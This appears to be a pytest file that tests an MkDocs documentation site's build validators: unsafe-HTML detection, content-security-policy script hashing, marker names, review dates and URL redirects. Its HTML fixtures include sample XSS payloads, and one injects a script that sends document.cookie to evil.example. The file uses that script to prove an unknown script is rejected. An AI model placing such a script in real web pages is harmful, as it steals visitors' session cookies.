"""The build's checks, run in-process on small fixtures (no MkDocs build): fast, and each
feeds one editor mistake (or one unsafe input) to the real validator.

See test_editor_errors.py for the handful of mistakes checked through a whole build.
"""

from __future__ import annotations

import datetime as dt
import re
import sys

import pytest
import yaml

from hookkit import ROOT, hooks, load_all, page, problems

load_all()


# -- 1. unsafe HTML in the rendered page, and a policy that hashes only known scripts -----


@pytest.mark.parametrize(
    "snippet,what",
    [
        ("<script>alert(1)</script>", "a <script> element"),
        ('<iframe src="https://example.com"></iframe>', "an <iframe> element"),
        ('<span onclick="steal()">x</span>', "an inline event handler"),
        ('<a href="javascript:alert(1)">x</a>', "a javascript: link"),
        ('<form action="https://example.com"></form>', "an <object>, <embed> or <form> element"),
    ],
)
def test_unsafe_html_in_rendered_page_is_reported(snippet, what):
    """Rendered HTML holds what the page's Markdown does not show: includes, data cells."""
    hooks.pages.on_pre_build(None)
    with problems() as found:
        hooks.pages.check_html(f"<p>Safe text</p>\n{snippet}\n", "docs/about/disclaimer.md")
    assert f"docs/about/disclaimer.md: unsafe HTML in the rendered page: {what}" in found.text


def test_code_that_shows_unsafe_html_is_fine():
    hooks.pages.on_pre_build(None)
    with problems() as found:
        hooks.pages.check_html(
            "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
            "docs/about/disclaimer.md",
        )
    assert not found.messages


def test_unsafe_html_in_an_include_names_the_include(tmp_path, monkeypatch):
    inc = tmp_path / "includes"
    inc.mkdir()
    (inc / "urgent-help.md").write_text("!!! danger\n\n    Call now.\n<script>alert(1)</script>\n")
    monkeypatch.setattr(hooks.common, "INCLUDES", inc)
    monkeypatch.setattr(hooks.common, "DATA", tmp_path / "data")
    monkeypatch.setattr(hooks.common, "ROOT", tmp_path)
    hooks.pages.on_pre_build(None)
    with problems() as found:
        for src in ("docs/a.md", "docs/b.md"):
            hooks.pages.check_html("<p>x</p><script>alert(1)</script>", src)
    assert found.text.count("includes/urgent-help.md:4 (shown on docs/a.md): unsafe HTML") == 1
    assert "docs/b.md" not in found.text  # one report per include line, not one per page


def test_the_policy_hashes_only_the_sites_own_scripts(site):
    html = (site / "about" / "disclaimer" / "index.html").read_text(encoding="utf-8")
    with problems() as found:
        own, _ = hooks.csp.hashes(html, "docs/about/disclaimer.md")
    assert not found.messages and len(own) >= 3
    bad = html.replace(
        "</body>", "<script>fetch('https://evil.example/'+document.cookie)</script></body>"
    )
    with problems() as found:
        scripts, _ = hooks.csp.hashes(bad, "docs/about/disclaimer.md")
    assert scripts == own, "an unknown inline script must never be hashed into the policy"
    assert (
        "docs/about/disclaimer.md: the page has an inline script that is not one of the site's own"
        in found.text
    )


def test_every_built_page_has_only_known_inline_scripts(site):
    with problems() as found:
        for path in site.rglob("*.html"):
            hooks.csp.hashes(path.read_text(encoding="utf-8"), str(path.relative_to(site)))
    assert not found.messages, found.text


# -- 2. one marker registry: a mistyped marker fails with file and line -------------------


@pytest.mark.parametrize(
    "marker,expected",
    [
        ("<!-- generated: evidence-tabel -->", "did you mean '<!-- generated: evidence-table -->'"),
        ("<!-- chart: evidence-chrt -->", "did you mean '<!-- chart: evidence-chart -->'"),
        ("<!-- figure: no-such-figure -->", "unknown marker"),
        ("<!-- option-figure: no-such-trial -->", "unknown marker"),
        ("<!-- genrated: glossary -->", "unknown marker kind"),
    ],
)
def test_unknown_marker_fails_with_file_and_line(marker, expected):
    text = "# Title\n\nSome words.\n\n" + marker + "\n"
    with problems() as found:
        hooks.markers.check(text, "docs/about/disclaimer.md", 7)
    assert f"docs/about/disclaimer.md:{7 + 5}: " in found.text and expected in found.text


def test_every_marker_on_the_real_pages_is_known():
    with problems() as found:
        for path in sorted((ROOT / "docs").rglob("*.md")):
            hooks.markers.check(path.read_text(encoding="utf-8"), str(path), 0)
    assert not found.messages, found.text


def test_markers_in_code_and_ordinary_comments_are_left_alone():
    text = "`<!-- generated: nothing -->`\n\n```\n<!-- figure: example -->\n```\n<!-- TODO check this -->\n"
    with problems() as found:
        hooks.markers.check(text, "docs/x.md", 0)
    assert not found.messages


def test_hooks_register_their_markers_into_one_registry():
    kinds = hooks.markers.registry
    assert {"evidence-table", "routes-table", "glossary", "all-sources", "option-grid"} <= kinds[
        "generated"
    ].names
    assert "elektd-ketamine" in kinds["figure"].all_names()
    assert {"routes-chart", "evidence-chart"} <= kinds["chart"].names


# -- 3. the review calendar never fails the build; an editor's date mistakes still do ----


def test_overdue_page_is_a_notice_not_a_failure(monkeypatch):
    monkeypatch.setenv("REVIEW_TODAY", "2031-06-01")  # years past every next_review
    p = page("about/disclaimer.md")
    with problems() as found:
        hooks.pages.on_page_markdown(p.markdown, p, None, _Files())
    assert not found.messages, found.text
    assert p.meta["review"]["overdue_days"] > 365


@pytest.mark.parametrize(
    "last,nxt,expected",
    [
        ("2026-11-28", "2026-11-01", "next_review must come after last_reviewed"),
        ("2026-11-28", "2029-01-01", "more than two years after last_reviewed"),
        ("2099-01-01", "2099-06-01", "last_reviewed is in the future"),
    ],
)
def test_an_editors_own_date_mistake_still_fails(last, nxt, expected):
    src = (ROOT / "docs" / "about" / "disclaimer.md").read_text(encoding="utf-8")
    src = re.sub(r"last_reviewed: .*", f"last_reviewed: {last}", src)
    src = re.sub(r"next_review: .*", f"next_review: {nxt}", src)
    with problems() as found:
        assert hooks.pages.validate_meta(page("about/disclaimer.md", src)) is None
    assert expected in found.text


def test_overdue_tool_lists_the_overdue_pages(capsys):
    sys.path.insert(0, str(ROOT / "tools"))
    import overdue

    assert overdue.main(["--today", "2000-01-01"]) == overdue.NONE_OVERDUE
    assert overdue.main(["--today", "2031-06-01"]) == 0
    out = capsys.readouterr().out
    assert "- [ ] `docs/about/disclaimer.md`: due " in out and "days ago" in out


# -- 7. portable dates; 8. no global YAML patch, no hook imported twice --------------------


def test_dates_are_written_without_platform_specific_directives():
    assert hooks.common.long_date(dt.date(2026, 12, 4)) == "4 December 2026"
    for path in [
        *(ROOT / "overrides").rglob("*.html"),
        *(ROOT / "overrides" / "hooks").glob("*.py"),
    ]:
        assert "%-d" not in path.read_text(encoding="utf-8"), (
            f"{path}: '%-d' fails on Windows; use long_date()"
        )


def test_importing_the_hooks_leaves_pyyaml_untouched():
    stock = yaml.constructor.SafeConstructor.construct_yaml_timestamp
    for loader in {yaml.SafeLoader, getattr(yaml, "CSafeLoader", yaml.SafeLoader)}:
        assert loader.yaml_constructors["tag:yaml.org,2002:timestamp"] is stock, loader
    with pytest.raises(ValueError):
        yaml.safe_load("when: 2026-13-40")
    # The hooks' own loader keeps the impossible date as text, for the schema to name.
    assert hooks.common.parse_yaml("when: 2026-13-40") == {"when": "2026-13-40"}


def test_each_hook_runs_once_per_build():
    """MkDocs loads a hook under its path; a second import under its module name would run
    it twice, with two separate sets of state."""
    import subprocess

    code = (
        "import sys, collections; from mkdocs.config import load_config; load_config('mkdocs.yml');"
        "c = collections.Counter(getattr(m, '__file__', None) for m in set(sys.modules.values()));"
        "print([f for f, n in c.items() if f and 'overrides/hooks' in f and n > 1])"
    )
    run = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True)
    assert run.stdout.strip() == "[]", run.stdout + run.stderr[-2000:]


class _Files:
    """The little of mkdocs.structure.files.Files the page hook asks for."""

    def get_file_from_path(self, path):
        return None


# -- B. published addresses never silently disappear ---------------------------------------


def test_url_of_matches_mkdocs():
    url_of = hooks.urls.url_of
    assert url_of("index.md") == "/" and url_of("about/index.md") == "/about/"
    assert url_of("about/disclaimer.md") == "/about/disclaimer/"


def test_a_renamed_page_without_a_redirect_fails_naming_the_old_address():
    listed = "# header\n/\n/about/disclaimer/\n"
    renamed = {"/": "index.md", "/about/legal/": "about/legal.md"}
    with problems() as found:
        hooks.urls.check(renamed, set(), listed)
    assert (
        "data/urls.txt:3: the published address /about/disclaimer/ is no longer a page"
        in found.text
    )
    assert "redirect_maps, as 'about/disclaimer.md': 'new/place.md'" in found.text
    assert (
        "docs/about/legal.md: the page's address /about/legal/ is not in data/urls.txt"
        in found.text
    )
    assert "run `make urls`" in found.text
    # With the redirect and the refreshed list, nothing is reported.
    with problems() as found:
        hooks.urls.check(renamed, {"/about/disclaimer/"}, listed + "/about/legal/\n")
    assert not found.messages, found.text


def test_the_committed_list_matches_the_pages():
    from mkdocs.structure.files import File, Files

    files = Files(
        [
            File(p.relative_to(ROOT / "docs").as_posix(), str(ROOT / "docs"), "/x", True)
            for p in (ROOT / "docs").rglob("*.md")
        ]
    )
    with problems() as found:
        hooks.urls.on_files(files, {"plugins": {}})
    assert not found.messages, found.text


def test_redirect_sources_read_the_redirects_plugin():
    class Plugin:
        def __init__(self):
            self.config = {
                "redirect_maps": {
                    "about/old-name.md": "about/disclaimer.md",
                    "old/index.md": "index.md",
                }
            }

    assert hooks.urls.redirect_sources({"plugins": {"redirects": Plugin()}}) == {
        "/about/old-name/",
        "/old/",
    }
